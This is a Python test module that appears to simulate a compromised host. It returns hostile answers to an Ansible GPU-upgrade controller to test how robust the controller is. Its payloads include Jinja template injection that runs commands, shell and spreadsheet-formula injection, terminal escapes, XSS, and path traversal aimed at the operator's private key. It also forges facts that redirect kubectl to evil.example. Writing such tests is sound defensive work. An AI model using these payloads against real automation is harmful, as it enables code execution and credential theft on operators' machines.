"""The answers of a hostile host, by kind: an honest answer in, the attack on it out (lab/hostile/interpreter.py)."""

import base64
import copy
import json
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any, NamedTuple

Attack = dict[str, Any]
DEEP = 100_000
BEYOND_64_BITS = 10**30


class Targets(NamedTuple):
    """What an attacker aims at: files of the control node and other hosts. ``ran`` is a file that no program may make."""

    key: Path
    tasks: Path
    kubeconfig: Path
    program: Path
    ran: Path
    victim: str
    mark: str
    """A word that names this attack in all that comes of it."""


Change = Callable[[Any, Targets], Any]


def change_strings(value: Any, change: Callable[[str], Any], keys: bool = False) -> Any:
    """Return JSON with every string changed; ``keys``: also those of mappings."""
    if isinstance(value, str):
        return change(value)
    if isinstance(value, list):
        return [change_strings(one, change, keys) for one in value]
    if isinstance(value, dict):
        return {change(key) if keys else key: change_strings(one, change, keys) for key, one in value.items()}
    return value


def change_leaves(value: Any, change: Callable[[Any], Any]) -> Any:
    """Return JSON with everything changed that is neither list nor mapping."""
    if isinstance(value, list):
        return [change_leaves(one, change) for one in value]
    if isinstance(value, dict):
        return {key: change_leaves(one, change) for key, one in value.items()}
    return change(value)


def printed(text: str | bytes) -> Attack:
    """Return an attack that prints these bytes."""
    content = text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text
    return {"do": "print", "value": base64.b64encode(content).decode()}


def answered(value: Any) -> Attack:
    """Return an attack that prints JSON."""
    return printed(json.dumps(value))


def merged(value: Mapping[str, Any]) -> Attack:
    """Return an attack that sets keys of the honest answer."""
    return {"do": "merge", "value": dict(value)}


# ---- texts in the place of honest ones --------------------------------------------------------------------------------


def escapes(honest: Any, at: Targets) -> Attack:
    """C0, C1 and OSC 52 after every text: the title, the clipboard and the screen of whoever reads it."""
    bad = f"\x1b]0;{at.mark}\x07\x1b[2J\x1b]52;c;{at.mark}\x07\x9b31m{at.mark}\x9d0;{at.mark}\x9c\x85\x7f\x00\r\b{at.mark}"
    return answered({**change_strings(honest, lambda text: text + bad), f"key{bad}": bad})


def failed_with_escapes(honest: Any, at: Targets) -> Attack:
    """A failure whose message, output and exception have them."""
    bad = f"\x1b]0;{at.mark}\x07\x1b[2J\x9b31m{at.mark}\r{at.mark}"
    found = {
        "failed": True,
        "msg": bad,
        "module_stderr": bad,
        "module_stdout": bad,
        "exception": bad,
        "rc": 3,
        "cmd": [bad],
    }
    return answered({**found, "stderr": bad, "stdout": bad, "warnings": [bad], "diff": {"before": bad, "after": bad}})


def warns_with_escapes(honest: Any, at: Targets) -> Attack:
    """A good answer with warnings and deprecations that have them."""
    bad = f"\x1b]0;{at.mark}\x07\x9b31m{at.mark}"
    notes = [{"msg": bad, "version": bad, "date": bad, "collection_name": bad}, bad]
    return merged({"warnings": [bad, f"{{{{ {bad} }}}}"], "deprecations": notes})


def direction(honest: Any, at: Targets) -> Attack:
    """Unicode that reorders or hides text."""
    return answered(change_strings(honest, lambda text: f"{text}\u202e{at.mark}\u2066\u200b\ufeff\U000e0041"))


def templates(honest: Any, at: Targets) -> Attack:
    """Jinja after every text and in keys."""
    return answered({**change_strings(honest, lambda text: text + jinja(at)), jinja(at): jinja(at)})


def only_templates(honest: Any, at: Targets) -> Attack:
    """Jinja in place of every text."""
    return answered(change_strings(honest, lambda _: only_jinja(at)))


def tagged_templates(honest: Any, at: Targets) -> Attack:
    """Jinja that says it is trusted, in the forms of Ansible's own serialization."""
    text = only_jinja(at)
    trusted = {"__ansible_type": "_AnsibleTaggedStr", "value": text, "tags": [{"__ansible_type": "TrustedAsTemplate"}]}
    value = change_strings(honest, lambda _: trusted)
    more = {"a": {"__ansible_unsafe": text}, "b": {"__ansible_vault": text}, "c": f"!unsafe {text}", "d": trusted}
    return answered({**value, **more, "msg": trusted, "_ansible_parsed": True})


def only_jinja(at: Targets) -> str:
    """Return Jinja that makes a file where it is rendered."""
    return "{{ lookup('ansible.builtin.pipe', 'touch FILE') }}".replace("FILE", str(at.ran))


def jinja(at: Targets) -> str:
    """Return Jinja that makes a file where it is rendered, in several ways."""
    statement = "{% set x = lookup('ansible.builtin.pipe', 'touch FILE') %}"
    other = "{{ cycler.__init__.__globals__.os.system('touch FILE') }}"
    return only_jinja(at) + (statement + other).replace("FILE", str(at.ran))


def formulas(honest: Any, at: Targets) -> Attack:
    """Live formulas of spreadsheets before every text."""
    return answered(change_strings(honest, lambda text: f"=cmd|'/C {at.mark}'!A0{text}"))


def other_formulas(honest: Any, at: Targets) -> Attack:
    """The other first characters of formulas, also behind a comma, a quote and an end of line."""
    texts = iter([f"{first}SUM({at.mark})" for first in "@+-\t\r\n"] * 10_000)
    quoted = f'",\n=HYPERLINK("{at.mark}")'
    return answered(change_strings(honest, lambda text: next(texts) + quoted))


def markup(honest: Any, at: Targets) -> Attack:
    """HTML and its ends after every text."""
    return answered(
        change_strings(
            honest, lambda text: f"{text}</td></script><script>{at.mark}</script><img src=x onerror={at.mark}>"
        )
    )


def absolute_paths(honest: Any, at: Targets) -> Attack:
    """The operator's private key in place of every text."""
    return answered(change_strings(honest, lambda _: str(at.key)))


def climbing_paths(honest: Any, at: Targets) -> Attack:
    """The same by `../`."""
    return answered(change_strings(honest, lambda _: "../" * 24 + str(at.key).lstrip("/")))


def task_files(honest: Any, at: Targets) -> Attack:
    """A task file that the attacker wrote in place of every text."""
    return answered(change_strings(honest, lambda _: str(at.tasks)))


def options(honest: Any, at: Targets) -> Attack:
    """Options of programs in place of every text."""
    return answered(change_strings(honest, lambda _: f"--kubeconfig={at.kubeconfig}"))


def commands(honest: Any, at: Targets) -> Attack:
    """Shell after every text."""
    return answered(
        change_strings(honest, lambda text: f"{text}'\"; touch {at.ran}; $(touch {at.ran}) `touch {at.ran}` #")
    )


def other_hosts(honest: Any, at: Targets) -> Attack:
    """Another host's name in place of every text."""
    return answered(change_strings(honest, lambda _: at.victim))


def control_node(honest: Any, at: Targets) -> Attack:
    """The control node's name in place of every text."""
    return answered(change_strings(honest, lambda _: "localhost"))


# ---- another form -----------------------------------------------------------------------------------------------------


def nothing(honest: Any, at: Targets) -> Attack:
    """No byte."""
    return printed("")


def no_json(honest: Any, at: Targets) -> Attack:
    """Text."""
    return printed(f"{at.mark}: not JSON\n")


def no_text(honest: Any, at: Targets) -> Attack:
    """Bytes that are not UTF-8, in JSON."""
    return printed(b'{"changed": false, "msg": "\xff\xfe\xed\xa0\x80", "plan": "\xc3\x28"}')


def half_characters(honest: Any, at: Targets) -> Attack:
    """Single surrogates, which JSON can spell and UTF-8 cannot."""
    return printed(json.dumps(change_strings(honest, lambda text: text + "\ud800")))


def no_mapping(honest: Any, at: Targets) -> Attack:
    """A list."""
    return answered([honest])


def no_keys(honest: Any, at: Targets) -> Attack:
    """A mapping without keys."""
    return answered({})


def nulls(honest: Any, at: Targets) -> Attack:
    """Null in place of every value at the top."""
    return answered(dict.fromkeys(honest))


def lists(honest: Any, at: Targets) -> Attack:
    """Mappings and texts where something else is expected."""
    return answered(change_leaves(honest, lambda value: [value, {"a": at.mark}]))


def texts(honest: Any, at: Targets) -> Attack:
    """A text in place of every value at the top."""
    return answered(dict.fromkeys(honest, at.mark))


def numbers(honest: Any, at: Targets) -> Attack:
    """Numbers beyond 64 bits in place of every value that is not a mapping or a list."""
    return answered(change_leaves(honest, lambda _: BEYOND_64_BITS))


def no_numbers(honest: Any, at: Targets) -> Attack:
    """NaN and Infinity."""
    return answered(change_leaves(honest, lambda value: float("nan") if isinstance(value, str) else float("inf")))


def deep(honest: Any, at: Targets) -> Attack:
    """Lists in lists, deeper than any stack."""
    return printed('{"changed": false, "plan": ' + "[" * DEEP + "]" * DEEP + "}")


def deep_enough(honest: Any, at: Targets) -> Attack:
    """Lists in lists, less deep than the limit of Python's own reader."""
    return answered({**honest, "warnings": [], "deep": json.loads("[" * 400 + "]" * 400)})


def flood(honest: Any, at: Targets) -> Attack:
    """A text of 200 MiB."""
    return {"do": "flood", "value": 200 * 1024 * 1024}


def silence(honest: Any, at: Targets) -> Attack:
    """No answer, for ever."""
    return {"do": "sleep"}


# ---- keys that Ansible knows ------------------------------------------------------------------------------------------


def facts(honest: Any, at: Targets) -> Attack:
    """Facts that would choose programs, connections and results of Ansible."""
    wrong = {
        "ansible_python_interpreter": str(at.program),
        "discovered_interpreter_python": str(at.program),
        "ansible_connection": "local",
        "ansible_host": at.victim,
        "ansible_ssh_common_args": f"-o ProxyCommand={at.program}",
        "ansible_ssh_executable": str(at.program),
        "ansible_become_exe": str(at.program),
        "ansible_shell_executable": str(at.program),
        "ansible_delegated_vars": {},
        "gpu_upgrade_drain": [str(at.tasks)],
        "gpu_upgrade_began": True,
        "gpu_upgrade_result": {"host": at.victim, "state": "upgraded"},
        "gpu_upgrade_max_failures": 10**6,
        "gpu_drain_slurm_controller": at.victim,
        "gpu_drain_kubernetes_host": at.victim,
        "gpu_drain_kubernetes_kubeconfig": str(at.kubeconfig),
        "gpu_kubernetes_kubectl": str(at.program),
        "gpu_kubernetes_kubeconfig": str(at.kubeconfig),
        "gpu_kubernetes_context": "production",
        "gpu_kubernetes_node": at.victim,
        "nvidia_driver_runfile": str(at.key),
        "gpu_verify_image": str(at.key),
        "role_path": str(at.tasks.parent),
    }
    return merged({"ansible_facts": wrong, "ansible_facts_cacheable": True, "_ansible_facts_cacheable": True, **wrong})


def results_of_ansible(honest: Any, at: Targets) -> Attack:
    """Keys by which actions give Ansible orders."""
    return merged(
        {
            "add_host": {"host_name": f"{at.mark}-host", "groups": ["gpu_upgrade_roll"], "host_vars": {"x": 1}},
            "add_group": "gpu_upgrade_roll",
            "parent_groups": ["all"],
            "include": str(at.tasks),
            "include_args": {"_raw_params": str(at.tasks)},
            "_ansible_notify": ["reboot"],
            "_ansible_delegated_vars": {"ansible_host": at.victim, "ansible_delegated_host": at.victim},
            "_ansible_no_log": False,
            "_ansible_verbose_override": True,
            "_ansible_ignore_errors": True,
            "_ansible_item_result": True,
            "_ansible_loop_var": "item",
            "ansible_stats": {"data": {at.victim: {"x": 1}}, "per_host": True, "aggregate": True},
            "results": [{"failed": True, "msg": at.mark}, 7, None],
            "invocation": {"module_args": {"x": "y" * 1000}},
        }
    )


def wrong_results_of_ansible(honest: Any, at: Targets) -> Attack:
    """The same keys with other types than Ansible's."""
    names = ("warnings", "deprecations", "exception", "diff", "results", "invocation", "ansible_facts", "skipped", "rc")
    return merged({**dict.fromkeys(names, 7), "attempts": "x", "finished": {}, "start": 1, "ansible_job_id": "../../x"})


def unreachable(honest: Any, at: Targets) -> Attack:
    """An answer that says there was none."""
    return merged({"unreachable": True, "msg": at.mark})


def skipped(honest: Any, at: Targets) -> Attack:
    """An answer that says that the task was skipped."""
    return answered({"skipped": True, "changed": False, "skip_reason": at.mark})


# ---- one module's own -------------------------------------------------------------------------------------------------


def of_facts(honest: Any, **changes: Any) -> Attack:
    """Return an attack that replaces parts of the facts; of those that are mappings, only the given keys."""
    found = copy.deepcopy(honest)
    for name, change in changes.items():
        part = found["facts"][name]
        found["facts"][name] = {**part, **change} if isinstance(part, dict) and isinstance(change, dict) else change
    return answered(found)


def steal_by_facts(honest: Any, at: Targets) -> Attack:
    """The operator's private key wherever facts name a file, a version or a package that a plan could copy."""
    key = str(at.key)
    climbing = "../" * 24 + key.lstrip("/")
    recorded = {"version": climbing, "branch": climbing, "flavour": key, "source": "runfile", "kernel_modules": key}
    return of_facts(
        honest,
        driver={
            "runfile": key,
            "origin": "runfile",
            "on_disk": {"version": climbing, "path": key},
            "packages": {key: key},
            "missing_parts": [key],
        },
        cuda={"toolkits": [{"version": "12.9", "path": key, "release": climbing, "origin": "runfile"}]},
        cudnn={"12.9": {"version": "9.1.0", "recorded": key, "origin": key}},
        monitoring={"files": {key: key}, "exporter": key, "python": key},
        upgrade={"phase": "done", "from": {**recorded, "packages": [key]}, "to": climbing, "rollout": 1700000000},
    )


def a_plan(honest: Any, at: Targets) -> Attack:
    """A plan of the host's own in place of its facts, which installs the operator's private key."""
    return answered({"changed": False, "lease": "", **stolen_plan(at)})


def a_plan_beside_facts(honest: Any, at: Targets) -> Attack:
    """The same beside the facts of an honest host."""
    return merged(stolen_plan(at))


def stolen_plan(at: Targets) -> dict[str, Any]:
    """Return a plan that installs the operator's private key."""
    runfile = {"version": "580.95.05", "source": str(at.key), "sha256": "", "sha256_url": "", "flavour": "open"}
    return {
        "plan": {
            "gpu_host": True,
            "converged": False,
            "summary": str(at.key),
            "choice": {},
            "refusals": [],
            "warnings": [],
            "steps": [],
            "digest": "",
        },
        "todo": {
            "nvidia_driver.runfile": {**runfile, "kernels": [], "uninstall": None},
            "cudnn.install": {"file": str(at.key), "installs": []},
        },
        "verification": {"expect": {}, "digest": "x", "image": str(at.key)},
        "row": {},
        "lines": [str(at.tasks)],
        "refusal": "",
        "upgrade": {"state": "current", "installer": {"source": str(at.key), "version": "580.95.05"}},
    }


def nothing_to_do(honest: Any, at: Targets) -> Attack:
    """A number in place of the facts."""
    return merged({"facts": 7})


def no_system(honest: Any, at: Targets) -> Attack:
    """Facts without the system, and with a field that no release has."""
    facts = {name: value for name, value in honest["facts"].items() if name != "base"}
    return merged({"facts": {**facts, at.mark: at.mark}})


def endless_versions(honest: Any, at: Targets) -> Attack:
    """Versions of a hundred thousand digits, and numbers that are none, which a planner could convert."""
    digits = "9" * 100_000
    return of_facts(
        honest,
        driver={
            "on_disk": {"version": f"{digits}.{digits}"},
            "loaded": {"version": f"x.{digits}"},
            "origin": "cuda_repo",
        },
        packages={"installed": {**honest["facts"]["packages"]["installed"], "docker-ce": digits}},
        docker={"version": f"{digits}.x", "installed": True},
    )


def many_parts(honest: Any, at: Targets) -> Attack:
    """Thousands of GPUs, processes, containers and toolkits, to keep the planner busy."""
    (gpu, *_) = honest["facts"]["base"]["gpus"]
    base = {**honest["facts"]["base"], "gpus": [{**gpu, "address": f"{n:04x}:00:00.0"} for n in range(8_000)]}
    processes = [{"pid": n, "name": f"{at.mark}{n}"} for n in range(8_000)]
    containers = [{"engine": "docker", "id": str(n), "name": str(n), "gpu": "runtime"} for n in range(8_000)]
    toolkits = [{"version": f"12.{n}", "path": f"/x/{n}", "release": None, "origin": "repo"} for n in range(8_000)]
    return of_facts(
        honest,
        base=base,
        work={"processes": processes, "containers": containers},
        cuda={"toolkits": toolkits},
        cudnn={f"12.{n}": {"version": "9.1.0"} for n in range(8_000)},
    )


def steal_by_check(honest: Any, at: Targets) -> Attack:
    """Files that are missing on the host: the operator's private key."""
    key = str(at.key)
    return merged({"files": {key: "/tmp/x"}, "needs_file": True, "needs": ["12.9", key], "installers": [key]})


def future_rollout(honest: Any, at: Targets) -> Attack:
    """The journal of a rollout in the far future."""
    journal = {"phase": "done", "time": 1, "to": "595.91.07", "rollout": 10**15, "touched": True, "reason": ""}
    return of_facts(honest, upgrade=journal)


def wrong_rollout(honest: Any, at: Targets) -> Attack:
    """The journal of a rollout that has no number."""
    return of_facts(honest, upgrade={"phase": [], "rollout": "abc", "time": {}, "to": []})


def drained_elsewhere(honest: Any, at: Targets) -> Attack:
    """A drain journal that names the attacker's task file, other hosts and kubectl's options."""
    names = {
        "tasks": {"files": [str(at.tasks)]},
        "kubernetes": {
            "node": "--server=https://evil.example",
            "host": "localhost",
            "kubeconfig": str(at.kubeconfig),
            "context": "",
            "reason": "gpu-ready: driver upgrade",
        },
        "slurm": {"node": at.victim, "controller": at.victim, "reason": "gpu-ready: driver upgrade"},
    }
    return merged({"journal": names})


def foreign_labels(honest: Any, at: Targets) -> Attack:
    """Labels that no GPU has, names that Kubernetes does not accept, and values that end the node in YAML."""
    node = f'"\n  - {{apiVersion: v1, kind: Node, metadata: {{name: {at.victim}, labels: {{{at.mark}: x}}}}}}'
    names = (f"{at.mark}/x", "node-role.kubernetes.io/x", "nvidia.com/gpu." + "a" * 300, f"nvidia.com/gpu.{node}")
    many = {"nvidia.com/gpu." + chr(97 + n % 26) * (n // 26 + 1): f"-{at.mark}" for n in range(500)}
    return merged({"labels": {**dict.fromkeys(names, at.mark), **many, "nvidia.com/gpu.product": node}})


def waits_for_ever(honest: Any, at: Targets) -> Attack:
    """A drain that never ends: always some seconds more."""
    return merged({"done": False, "waiting": at.mark, "deadline": 9e15, "remaining_s": 10**9})


GENERAL: tuple[Change, ...] = (
    escapes, failed_with_escapes, warns_with_escapes, direction, templates, only_templates, tagged_templates, formulas,
    other_formulas, markup, absolute_paths, climbing_paths, task_files, options, commands, other_hosts, control_node,
    nothing, no_json, no_text, half_characters, no_mapping, no_keys, nulls, lists, texts, numbers, no_numbers, deep,
    deep_enough, flood, silence, facts, results_of_ansible, wrong_results_of_ansible, unreachable, skipped,
)  # fmt: skip
"""For every module."""
FOR_ANSIBLE: tuple[Change, ...] = (
    failed_with_escapes, warns_with_escapes, tagged_templates, nothing, no_json, no_text, half_characters, no_mapping,
    nulls, deep, flood, silence, facts, results_of_ansible, wrong_results_of_ansible, unreachable, skipped,
)  # fmt: skip
"""For modules whose answer no task uses: only Ansible itself and the output read it."""
UNUSED = (
    "gpu_packages", "gpu_repository", "gpu_files", "gpu_cuda_toolkit_default", "gpu_cudnn_archive", "gpu_daemon_json",
    "gpu_service_failure", "gpu_service", "file", "copy", "systemd_service", "gpu_monitoring", "gpu_driver_volume",
    "gpu_cdi_spec", "gpu_containerd_config", "gpu_revert", "gpu_dkms", "gpu_nvidia_detect", "gpu_cuda_toolkit_absent",
)  # fmt: skip
OWN: dict[str, tuple[Change, ...]] = {
    "gpu_node_plan": (
        steal_by_facts, a_plan, a_plan_beside_facts, nothing_to_do, no_system, endless_versions, many_parts,
        future_rollout, wrong_rollout,
    ),
    "gpu_driver_runfile": (steal_by_check,),
    "gpu_cuda_runfile": (steal_by_check,),
    "gpu_upgrade_stage": (steal_by_check,),
    "gpu_drain_journal": (drained_elsewhere,),
    "gpu_kubernetes_labels": (foreign_labels,),
    "gpu_drain_docker": (waits_for_ever,),
    "gpu_drain_slurm": (waits_for_ever,),
}  # fmt: skip
"""For one module."""
RAW = (escapes, no_text, nothing, commands, flood, silence, templates)
"""For the output of a shell, which is no JSON."""


def of_module(module: str) -> tuple[Change, ...]:
    """Return the attacks of a module."""
    general = RAW if module == "raw" else FOR_ANSIBLE if module in UNUSED else GENERAL
    return (*general, *OWN.get(module, ()))
